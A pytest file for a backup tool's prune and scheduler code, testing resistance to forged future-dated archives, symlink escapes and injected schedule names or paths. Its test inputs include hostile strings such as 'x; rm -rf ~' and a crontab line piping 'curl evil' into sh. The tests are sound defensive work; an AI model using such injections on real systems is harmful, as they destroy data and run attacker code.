"""The attack corpus, routine protection (issue 21): what a file in the backup folder, a clock or a schedule's
name could make prune or the scheduler do. Each has one answer: the real backups stay, nothing outside the
folder is touched, no scheduler entry runs anything but `schedule run NAME`."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.engine.backup.native import backup_tenant
from app.engine.errors import UsageError
from app.engine.routine.command_line import run_command
from app.engine.routine.keep import KeepRules
from app.engine.routine.prune import prune_folder
from app.engine.routine.schedules import Schedule
from tests.support import pg
from tests.support.restore import rewrite_archive

pytestmark = pytest.mark.core


@pytest.fixture(scope="module")
def made(pg_server: pg.TestServer, tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = pg_server.new_database()
    try:
        return backup_tenant(target, "mindcare", tmp_path_factory.mktemp("made") / "mindcare.resguardo").path
    finally:
        pg_server.drop_database(target)


def stamped(made: Path, when: str, dst: Path) -> Path:
    dst.parent.mkdir(parents=True, exist_ok=True)
    return rewrite_archive(made, dst, manifest=lambda m: m.update(created_utc=when))


def test_a_file_dated_in_the_future_does_not_push_the_real_backups_out(made: Path, tmp_path: Path) -> None:
    """A well-formed file (its checksums match: anyone can write one) claiming to be the clinic's newest backup,
    from 2099, would hold "last #1" and "newest verified" for ever; it is kept, said, and not counted."""
    forged = stamped(made, "2099-01-01T00:00:00Z", tmp_path / "forged.resguardo")
    real = [stamped(made, f"2026-05-0{d}T02:00:00Z", tmp_path / f"real{d}.resguardo") for d in (1, 2)]
    report = prune_folder(tmp_path, KeepRules(last=1))
    assert [(u.path, u.reason) for u in report.unreadable] == [
        (forged, "its manifest says it was made in the future (2099-01-01 00:00 UTC)")
    ]
    assert forged.exists() and real[1].exists() and not real[0].exists()


def test_links_never_lead_prune_out_of_the_folder(made: Path, tmp_path: Path) -> None:
    """A link to a file or to a folder of backups elsewhere: prune removes only what is in the folder itself."""
    outside = tmp_path / "outside"
    targets = [stamped(made, f"2026-05-0{d}T02:00:00Z", outside / f"o{d}.resguardo") for d in (1, 2)]
    folder = tmp_path / "backups"
    stamped(made, "2026-06-01T02:00:00Z", folder / "new.resguardo")
    (folder / "to-file.resguardo").symlink_to(targets[0])
    (folder / "to-folder").symlink_to(outside, target_is_directory=True)
    report = prune_folder(folder, KeepRules(last=1))
    assert report.removed == [] and all(t.exists() for t in targets)


@pytest.mark.parametrize("name", ["x; rm -rf ~", "../evil", "a b", "-now", "x\nOnCalendar=minutely", "x" * 41, ""])
def test_a_schedule_name_cannot_reach_a_unit_file_or_a_command_line(name: str, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="is not a schedule name"):
        Schedule(name, ("02:30",), str(tmp_path), "clinics")


def test_a_line_break_in_a_path_cannot_add_a_scheduler_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """RESGUARDO_HOME goes into the unit, the crontab line and the agent: a newline would add a line of its own."""
    monkeypatch.setenv("RESGUARDO_HOME", str(tmp_path / "x\n* * * * * curl evil | sh"))
    with pytest.raises(UsageError, match="holds a line break"):
        run_command("nightly")
